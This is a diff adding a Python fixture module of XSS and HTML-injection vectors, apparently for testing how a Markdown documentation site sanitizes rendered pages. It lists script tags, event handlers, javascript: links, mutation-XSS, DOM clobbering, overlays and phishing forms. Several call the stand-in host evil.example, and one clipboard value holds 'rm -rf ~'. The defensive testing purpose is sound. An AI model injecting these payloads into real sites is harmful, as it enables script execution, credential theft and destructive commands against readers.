@@ -1,0 +1,283 @@
+"""What somebody could write to do more than be read, by class. In a browser, ``HIT`` tells that it ran.
+
+``//evil.example/HERE`` is another host. Each vector is Markdown of its own; those in ``ALONE`` would swallow what
+stands below them, and get a page each.
+"""
+
+from __future__ import annotations
+
+import re
+
+VECTORS: dict[str, list[str]] = {
+    "script": [
+        "<script>HIT</script>",
+        "<ScRiPt>HIT</sCrIpT>",
+        "<script\n>HIT</script\n>",
+        "<script/x>HIT</script>",
+        "<script src=//evil.example/HERE></script>",
+        '<script src="https://evil.example/HERE.js"></script>',
+        '<script type="module">HIT</script>',
+        "<script type=\"text/javascript\">HIT</script>",
+        "<scr<script>ipt>HIT</scr</script>ipt>",
+        '<script src="data:text/javascript,HIT"></script>',
+        "text <script>HIT</script> text",
+        "- item <script>HIT</script>",
+        "> quoted <script>HIT</script>",
+        "| a |\n|---|\n| <script>HIT</script> |",
+        "!!! note\n    <script>HIT</script>",
+        '=== "Tab"\n    <script>HIT</script>',
+        "*emphasis <script>HIT</script>*",
+        "A note[^s].\n\n[^s]: <script>HIT</script>",
+        "Term\n:   <script>HIT</script>",
+        '<div markdown="1">\n<script>HIT</script>\n</div>',
+        "# <script>HIT</script>",
+        "<noscript><p title=\"</noscript><img src=x onerror=HIT>\"></noscript>",
+        "<link rel=import href=//evil.example/HERE>",
+        "<link rel=modulepreload href=//evil.example/HERE>",
+    ],
+    "handler": [
+        "<img src=x onerror=HIT>",
+        '<img src="x" onerror="HIT">',
+        "<img src=x oNeRrOr=HIT>",
+        "<img/src=x/onerror=HIT>",
+        "<img src=x onerror\n=\nHIT>",
+        "<img src=x alt='>' onerror=HIT>",
+        "<svg onload=HIT></svg>",
+        "<svg/onload=HIT>",
+        "<details open ontoggle=HIT>x</details>",
+        "<p onmouseover=HIT>x</p>",
+        '<a href="#" onclick="HIT">x</a>',
+        "<body onload=HIT>",
+        "<div onpointerenter=HIT tabindex=1>x</div>",
+        "<input autofocus onfocus=HIT>",
+        "<button onclick=HIT>x</button>",
+        "<video><source onerror=HIT></video>",
+        "<video src=x onerror=HIT></video>",
+        "<audio src=x onerror=HIT></audio>",
+        "<marquee onstart=HIT>x</marquee>",
+        "<object data=x onerror=HIT></object>",
+        "<p style='animation:x' onanimationstart=HIT>x</p>",
+        "<b popover ontoggle=HIT onbeforetoggle=HIT>x</b>",
+        "![x](x){ onerror=HIT }",
+        '![x](x){ onerror="HIT" }',
+        "A paragraph.\n{: onmouseover=HIT }",
+        "## A heading { onclick=HIT }",
+        "[link](#){ onclick=HIT }",
+        '![x" onerror="HIT](x)',
+        '[x](x "\\" onmouseover=\\"HIT")',
+        '```python title="\\" onmouseover=\\"HIT"\nx\n```',
+        "```{ .python onclick=HIT }\nx\n```",
+        '!!! note "<img src=x onerror=HIT>"\n    text',
+        '*[HTM]: "><img src=x onerror=HIT>\n\nHTM here',
+    ],
+    "tooltip": [
+        '[x](#a "<img src=x onerror=HIT>")',
+        '<span title="<img src=x onerror=HIT>">x</span>',
+        '<span title="&lt;svg onload=HIT&gt;">x</span>',
+        "*[ABB]: <img src=x onerror=HIT>\n\nABB",
+        '![x](y.png "</div><img src=x onerror=HIT>")',
+        '<abbr title="<script>HIT</script><style>*{display:none}">x</abbr>',
+        ':material-car:{ title="<img src=x onerror=HIT>" }',
+    ],
+    "link": [
+        "[x](javascript:HIT)",
+        "[x](JaVaScRiPt:HIT)",
+        "[x](java&#115;cript:HIT)",
+        "[x](javascript&colon;HIT)",
+        "[x](javascript&#58;HIT)",
+        "[x](<java\tscript:HIT>)",
+        "[x](&#1;javascript:HIT)",
+        "[x](\\javascript:HIT)",
+        "[x][js]\n\n[js]: javascript:HIT",
+        "<javascript:HIT>",
+        "[x](vbscript:HIT)",
+        "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+        "[x](file:///etc/passwd)",
+        "[x](blob:https://evil.example/HERE)",
+        "[x](view-source:x)",
+        "[x](intent://evil.example/HERE)",
+        "[x](ms-msdt:/id)",
+        '<a href="javascript:HIT">x</a>',
+        '<a href=" javascript:HIT">x</a>',
+        '<a href="java\nscript:HIT">x</a>',
+        '<a href="java&Tab;script:HIT">x</a>',
+        '<a href="&#x6a;avascript:HIT">x</a>',
+        '<a href="\x01javascript:HIT">x</a>',
+        '<a href="//evil.example/HERE">x</a>',
+        '<a href="\\\\evil.example\\HERE">x</a>',
+        '<a href="/\t/evil.example/HERE">x</a>',
+        '<svg><a xlink:href="javascript:HIT"><text>x</text></a></svg>',
+        '<svg><a><animate attributeName=href values="javascript:HIT"/></a></svg>',
+        '<map><area href="javascript:HIT"></map>',
+        '<math href="javascript:HIT">x</math>',
+        '<form action="javascript:HIT"><button>x</button></form>',
+        '<button formaction="javascript:HIT">x</button>',
+        '<a href="x" ping="//evil.example/HERE">x</a>',
+        '<a href="x" target="_top">x</a>',
+    ],
+    "other host": [
+        "![x](https://evil.example/HERE)",
+        "![x](//evil.example/HERE)",
+        "![x](/\\evil.example/HERE)",
+        "![x][far]\n\n[far]: http://evil.example/HERE",
+        "![x](x){ src=//evil.example/HERE }",
+        "<img src=//evil.example/HERE>",
+        '<img src="ht\ntp://evil.example/HERE">',
+        '<img srcset="//evil.example/HERE 2x">',
+        '<picture><source srcset="//evil.example/HERE"><img src=x></picture>',
+        "<video poster=//evil.example/HERE></video>",
+        "<audio src=//evil.example/HERE autoplay></audio>",
+        "<track src=//evil.example/HERE>",
+        "<embed src=//evil.example/HERE>",
+        "<object data=//evil.example/HERE></object>",
+        "<iframe src=//evil.example/HERE></iframe>",
+        '<iframe srcdoc="<script>parent.HIT</script>"></iframe>',
+        '<iframe src="javascript:parent.HIT"></iframe>',
+        "<link rel=stylesheet href=//evil.example/HERE>",
+        "<link rel=icon href=//evil.example/HERE>",
+        "<style>@import '//evil.example/HERE';</style>",
+        "<p style='background:url(//evil.example/HERE)'>x</p>",
+        "<table background=//evil.example/HERE><tr><td>x</td></tr></table>",
+        '<svg><image href="//evil.example/HERE"/></svg>',
+        '<svg><use href="//evil.example/HERE#a"/></svg>',
+        '<svg><path d="M0 0h9" fill="url(//evil.example/HERE)"/></svg>',
+        '<svg><filter><feImage href="//evil.example/HERE"/></filter></svg>',
+        "```mermaid\ngraph TD\n  A@{ img: \"https://evil.example/HERE\" }\n```",
+        "```mermaid\ngraph TD\n  A --> B\n  style A fill:url(https://evil.example/HERE)\n```",
+        '--8<-- "https://evil.example/HERE"',
+    ],
+    "diagram": [
+        '```mermaid\ngraph TD\n  A["<img src=x onerror=HIT>"] --> B\n```',
+        '```mermaid\ngraph TD\n  A --> B\n  click A "javascript:HIT"\n```',
+        "```mermaid\ngraph TD\n  A --> B\n  click A call HIT\n```",
+        '```mermaid\n%%{init: {"securityLevel": "loose"}}%%\ngraph TD\n  A["<img src=x onerror=HIT>"]\n```',
+        '```mermaid\n%%{init: {"themeCSS": "svg{position:fixed;top:0}"}}%%\ngraph TD\n  A\n```',
+        "```mermaid\nsequenceDiagram\n  A->>B: <img src=x onerror=HIT>\n```",
+        '<pre class="mermaid"><code>graph TD\n  A["&lt;img src=x onerror=HIT&gt;"]</code></pre>',
+        '<div class="mermaid">graph TD</div>',
+    ],
+    "parsers that disagree": [
+        '<svg></p><style><a id="</style><img src=1 onerror=HIT>">',
+        '<svg><title><a id="</title><img src=1 onerror=HIT>">x</a></title></svg>',
+        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=HIT&gt;">',
+        "<svg><desc><title></svg><img src=x onerror=HIT></title>",
+        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=HIT>",
+        "<![CDATA[><img src=x onerror=HIT>]]>",
+        "<?x ><img src=x onerror=HIT>?>",
+        "<!-- --!><img src=x onerror=HIT> -->",
+        "<!--><img src=x onerror=HIT>-->",
+        "<svg><foreignObject><img src=x onerror=HIT></foreignObject></svg>",
+        "<svg><script href=data:,HIT /></svg>",
+        "<template><img src=x onerror=HIT></template>",
+        "<a title='`'><img src=x onerror=HIT>`",
+        "`` ` <img src=x onerror=HIT>",
+        "<p title=`x` onclick=HIT>x</p>",
+        "<img src=x onerror=HIT//",
+    ],
+    "clobbering": [
+        "<p id=__config>{}</p>",
+        '<p id="__config">{"base":"//evil.example/HERE"}</p>',
+        "## __config",
+        "Text.\n{: #__search }",
+        "<input id=__search type=checkbox>",
+        "<label for=__drawer>x</label>",
+        "<a name=__palette></a>",
+        "<input type=radio name=__palette id=__palette_0>",
+        "<p id=kb-main>x</p>",
+        '<p data-md-component="search-query">x</p>',
+        '<p data-md-component="dialog">x</p>',
+        "<p data-kb-search>x</p>",
+        '<b data-clipboard-text="rm -rf ~">x</b>',
+        '<p data-pagefind-meta="title:Fake" data-pagefind-body>x</p>',
+        "<form name=search><input name=query></form>",
+        "<form id=document$ name=cookie></form>",
+        "<p id=document$>x</p>",
+        "<img name=cookie><img name=forms><img name=body>",
+        "## Mermaid",
+        "## document$",
+    ],
+    "over the page": [
+        '<p style="position:fixed;inset:0;background:red">x</p>',
+        "A red one.\n{: style='position:fixed;top:0;left:0' }",
+        '<div class="md-overlay" style="opacity:1">x</div>',
+        '<div class="md-header">x</div>',
+        '<div class="md-dialog md-dialog--active">x</div>',
+        '<div class="md-search__overlay">x</div>',
+        '<div class="md-consent"><div class="md-consent__overlay"></div></div>',
+        '<div class="md-sidebar">x</div>',
+        '<a class="md-top">x</a>',
+        "Text.\n{: .md-skip .md-progress }",
+        '!!! md-banner "Announcement"\n    x',
+        '<svg width=3000 height=2000 transform="translate(-900,-500)"><rect width=3000 height=2000 fill="red"/></svg>',
+        '<svg width=99999 height=20><rect width=99999 height=20 /></svg>',
+        "<dialog open style='position:fixed'>x</dialog>",
+        '<div class="kb-preview" popover>x</div>',
+        "<style>.md-header{display:none}</style>",
+        "x" * 400,
+    ],
+    "imitation": [
+        '<p class="kb-trust">Proven: it worked for 99 people.</p>',
+        '<span class="kb-mark kb-mark--proven">proven</span>',
+        '<div class="kb kb-banner">x</div>',
+        "Adopted.\n{: .kb-chip .KB-level }",
+        '<aside class="md-banner">Site moved: log in again</aside>',
+        '<div role="alert">x</div>',
+        '<div role="dialog" aria-modal="true">Log in</div>',
+        '<form action="//evil.example/HERE"><input type=password name=p><input type=submit></form>',
+        "<input type=image src=//evil.example/HERE>",
+        "<textarea>x</textarea><select><option>x</select>",
+    ],
+}  # fmt: skip
+ALONE: dict[str, list[str]] = {
+    "breaking the frame": [
+        "</div></div></article></main><p>below everything</p>",
+        "</article><footer class=md-footer>Ours</footer>",
+        "<!-- never closed",
+        "<div><div><div><article><main>",
+        "<table><tr><td>never closed",
+        "<textarea>never closed",
+        "<plaintext>never closed",
+        "<title>never closed",
+        "<xmp>never closed",
+        "<style>never closed",
+        "<svg><title>never closed",
+        "<select><option>never closed",
+        "</body></html><p>after the end</p>",
+        "<frameset onload=HIT>",
+    ],
+    "head": [
+        "<meta http-equiv=refresh content='0;url=//evil.example/HERE'>",
+        "<base href=//evil.example/HERE/>",
+        "<base target=_blank>",
+        "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
+    ],
+}
+HOST = "127.0.0.1:47111"
+QUIET = ("over the page", "imitation", "clobbering", "breaking the frame")
+"""Classes that need neither script nor another host to do harm."""
+
+
+def numbered(start: int, texts: list[str]) -> list[str]:
+    """Vectors that say which one they are, with a host at which nobody listens."""
+    texts = [text.replace("evil.example", HOST) for text in texts]
+    return [text.replace("HIT", f"hit({at})").replace("HERE", str(at)) for at, text in enumerate(texts, start)]
+
+
+def pages() -> dict[str, str]:
+    """The vectors as Markdown pages, by name."""
+    found, number = {}, 0
+    for name, texts in VECTORS.items():
+        blocks = [f"{text}\n\nAfter {number + at}." for at, text in enumerate(numbered(number, texts))]
+        found[re.sub(r"\W+", "-", name)] = "\n\n".join([f"# Vectors {name}", *blocks]) + "\n"
+        number += len(texts)
+    for name, texts in ALONE.items():
+        slug = re.sub(r"\W+", "-", name)
+        for text in numbered(number, texts):
+            found[f"{slug}-{number}"] = f"# Vectors {number}\n\n{text}\n\nAfter.\n"
+            number += 1
+    return found
+
+
+def single() -> list[tuple[str, str]]:
+    """Each vector with its class."""
+    return [(name, text) for name, texts in (VECTORS | ALONE).items() for text in numbered(0, texts)]
